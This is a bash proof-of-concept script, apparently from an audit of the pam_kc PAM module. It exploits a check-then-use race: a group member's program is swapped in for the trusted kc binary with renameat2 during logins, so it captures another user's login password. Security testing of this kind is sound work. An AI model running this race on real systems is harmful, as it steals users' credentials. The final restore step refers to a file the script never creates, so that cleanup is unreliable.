#!/usr/bin/env bash
# Finding: pam_kc's trust check looks at the kc FILE only (stat: owned by root, not
# group/other-writable), not at the folders on its path, and checks in the module but
# executes later in a grandchild (check-then-use). A careless admin who installs kc in a
# folder another user can write (here root:kc-atk-grp 2775, bob in the group; or
# kc=PATH under someone's checkout) lets that user swap in his own program between the
# check and the execve: it then runs as the user who logs in, with that user's login
# password on standard input. Run as root.
source "$(dirname "$0")/common.sh"
mkuser kc-atk-alice 'Alice-pw-1'; mkuser kc-atk-bob 'Bob-pw-1'
getent group kc-atk-grp >/dev/null || groupadd kc-atk-grp
usermod -aG kc-atk-grp kc-atk-bob
D=$A36/shared; rm -rf $D; mkdir -p $D; chown root:kc-atk-grp $D; chmod 2775 $D
install -m 0755 -o root -g root /work/main/.build/release/kc $D/kc       # root's, 0755: passes the check
service race "" ; sed -i "s#kc=$KC#kc=$D/kc#" /etc/pam.d/kc-atk-race
rm -f /tmp/kc-atk-stolen.* /tmp/kc-atk-race.pid /tmp/kc-atk-stop-race
# bob's side: his own "kc", and a loop that swaps it with root's kc (renameat2 EXCHANGE)
su -s /bin/bash kc-atk-bob -c "cat > $D/evil <<'EVIL'
#!/bin/sh
umask 022; cat > /tmp/kc-atk-stolen.\$(id -un).\$\$
EVIL
chmod 755 $D/evil
nohup python3 -c '
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
a, b = b\"$D/kc\", b\"$D/evil\"
end = time.time() + 60
while time.time() < end and not os.path.exists(\"/tmp/kc-atk-stop-race\"):
    libc.renameat2(-100, a, -100, b, 2)   # RENAME_EXCHANGE
' >/dev/null 2>&1 &
echo \$! > /tmp/kc-atk-race.pid"
rm -f /tmp/kc-atk-stop-race
tries=0
for i in $(seq 40); do
  tries=$i
  echo Alice-pw-1 | pamtester kc-atk-race kc-atk-alice authenticate >/dev/null 2>&1
  ls /tmp/kc-atk-stolen.* >/dev/null 2>&1 && break
done
touch /tmp/kc-atk-stop-race; sleep 0.3
kill "$(cat /tmp/kc-atk-race.pid)" 2>/dev/null
echo "logins: $tries"
for f in /tmp/kc-atk-stolen.*; do [ -e "$f" ] && echo "stolen by bob's program: $f (owner $(stat -c %U $f)): '$(cat $f)'"; done
# put root's kc back where it was
[ "$(stat -c %U $D/kc)" = root ] || mv -f $D/evil.tmp $D/kc 2>/dev/null || true
